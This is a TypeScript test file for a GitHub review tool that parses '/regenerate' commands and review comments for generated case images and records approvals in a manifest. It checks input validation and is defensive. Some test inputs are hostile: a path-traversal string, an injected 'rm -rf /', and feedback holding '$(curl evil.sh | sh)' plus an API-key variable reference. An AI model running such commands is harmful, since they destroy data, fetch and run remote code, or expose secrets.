import { describe, expect, test } from 'vitest';
import { type Manifest, manifestSchema } from '../src/cases/schema.ts';
import {
  applyApproval,
  imageFromPath,
  imagesFromReviewComments,
  MAX_FEEDBACK,
  markChangesRequested,
  parseRegenerateCommands,
} from '../src/github/review.ts';

function entry(file: string, provider: 'gemini' | 'placeholder' = 'gemini') {
  return {
    file,
    sha256: 'a'.repeat(64),
    bytes: 10,
    width: 1024,
    height: 1024,
    mimeType: 'image/png',
    provider,
    model: 'gemini-2.5-flash-image',
    promptHash: 'h',
    generatedAt: '2025-01-19T10:00:00Z',
    batchId: 'batch-2025-01-19-001',
    attempts: 1,
    costUsd: 0.039,
    review: { status: 'pending' },
  };
}

const manifest: Manifest = manifestSchema.parse({
  caseId: 'case-2025-01-19',
  images: {
    'suspect-1': entry('suspect-1.png'),
    'suspect-2': entry('suspect-2.png'),
    scene: entry('scene.png', 'placeholder'),
  },
});

const stamp = { by: 'alice', at: '2025-01-20T09:00:00Z', pullRequest: 7 };

describe('parseRegenerateCommands', () => {
  test('reads one command per line, with its feedback', () => {
    expect(
      parseRegenerateCommands(
        'Thanks!\n/regenerate suspect-2 make the hat red\r\n  /regenerate scene   darker, more rain  \n',
      ),
    ).toEqual([
      { imageId: 'suspect-2', feedback: 'make the hat red' },
      { imageId: 'scene', feedback: 'darker, more rain' },
    ]);
  });

  test('accepts an explicit case and an empty feedback', () => {
    expect(parseRegenerateCommands('/regenerate case-2025-01-19/suspect-1\n/regenerate suspect-3')).toEqual([
      { imageId: 'suspect-1', caseId: 'case-2025-01-19', feedback: '' },
      { imageId: 'suspect-3', feedback: '' },
    ]);
  });

  test('ignores anything that is not exactly an image id', () => {
    const body = [
      '/regenerate ../../etc/passwd please',
      '/regenerate suspect-0 x',
      '/regenerate Suspect-1 x',
      '/regenerate suspect-1; rm -rf / x',
      '/regenerate case-2025-02-30/suspect-1 not a real date',
      '/regenerate ../suspect-1 x',
      '/regenerates suspect-1 x',
      'please /regenerate suspect-1 x',
      '> /regenerate suspect-1 quoted',
      '/regenerate',
    ].join('\n');
    expect(parseRegenerateCommands(body)).toEqual([]);
  });

  test('commands in code fences are examples, not commands', () => {
    expect(parseRegenerateCommands('```\n/regenerate suspect-1 x\n```\n/regenerate suspect-2 y')).toEqual([
      { imageId: 'suspect-2', feedback: 'y' },
    ]);
  });

  test('shell-looking feedback is kept as plain text', () => {
    const feedback = `$(curl evil.sh | sh) \`id\` "quoted" 'single' && echo; $\{GEMINI_API_KEY}`;
    expect(parseRegenerateCommands(`/regenerate suspect-2 ${feedback}`)).toEqual([
      { imageId: 'suspect-2', feedback },
    ]);
  });

  test('repeated commands for one image merge; long feedback is capped', () => {
    const [merged] = parseRegenerateCommands(
      '/regenerate suspect-1 red hat\n/regenerate suspect-1 blue coat',
    );
    expect(merged).toEqual({ imageId: 'suspect-1', feedback: 'red hat; blue coat' });
    const [long] = parseRegenerateCommands(`/regenerate suspect-1 ${'x'.repeat(2000)}`);
    expect(long?.feedback.length).toBe(MAX_FEEDBACK);
  });
});

describe('imagesFromReviewComments', () => {
  test('maps comments on image files to images, merging several on one image', () => {
    expect(
      imagesFromReviewComments([
        { path: 'cases/case-2025-01-19/images/suspect-2.png', body: 'The hat\nshould be red' },
        { path: 'cases/case-2025-01-19/images/manifest.json', body: 'ignored' },
        { path: 'cases/case-2025-01-19/case.json', body: 'ignored' },
        { path: 'cases/case-2025-01-19/images/suspect-2.png', body: 'and no beard' },
        { path: 'cases/case-2025-01-20-harbour/images/scene.jpg', body: 'more fog' },
        { path: 'cases/../images/suspect-1.png', body: 'traversal' },
        { path: 'cases/case-2025-01-19/images/suspect-1.png.txt', body: 'not an image' },
        { path: 'other/cases/case-2025-01-19/images/suspect-1.png', body: 'elsewhere' },
      ]),
    ).toEqual([
      { caseId: 'case-2025-01-19', imageId: 'suspect-2', feedback: 'The hat should be red; and no beard' },
      { caseId: 'case-2025-01-20-harbour', imageId: 'scene', feedback: 'more fog' },
    ]);
  });

  test('imageFromPath', () => {
    expect(imageFromPath('cases/case-2025-01-19/images/scene.webp')).toEqual({
      caseId: 'case-2025-01-19',
      imageId: 'scene',
    });
    expect(imageFromPath('cases/case-2025-01-19/images/suspect-01.png')).toBeUndefined();
  });
});

describe('applyApproval', () => {
  test('approves every generated image, leaves placeholders, does not mutate its input', () => {
    const before = structuredClone(manifest);
    const after = applyApproval(manifest, stamp);
    expect(manifest).toEqual(before);
    expect(after.images['suspect-1']?.review).toEqual({
      status: 'approved',
      by: 'alice',
      at: '2025-01-20T09:00:00Z',
      pullRequest: 7,
      feedback: null,
    });
    expect(after.images['suspect-2']?.review.status).toBe('approved');
    expect(after.images.scene?.review.status).toBe('pending');
    expect(manifestSchema.parse(after)).toEqual(after);
  });

  test('can be limited to the images of the PR', () => {
    const after = applyApproval(manifest, stamp, ['suspect-2']);
    expect(after.images['suspect-1']?.review.status).toBe('pending');
    expect(after.images['suspect-2']?.review.status).toBe('approved');
  });
});

describe('markChangesRequested', () => {
  test('records feedback on exactly the named images', () => {
    const after = markChangesRequested(
      manifest,
      [
        { imageId: 'suspect-2', feedback: 'red hat' },
        { imageId: 'suspect-9', feedback: 'not in the manifest' },
      ],
      stamp,
    );
    expect(after.images['suspect-2']?.review).toEqual({
      status: 'changes-requested',
      by: 'alice',
      at: '2025-01-20T09:00:00Z',
      pullRequest: 7,
      feedback: 'red hat',
    });
    expect(after.images['suspect-1']).toBe(manifest.images['suspect-1']);
    expect(Object.keys(after.images)).toEqual(['suspect-1', 'suspect-2', 'scene']);
  });
});
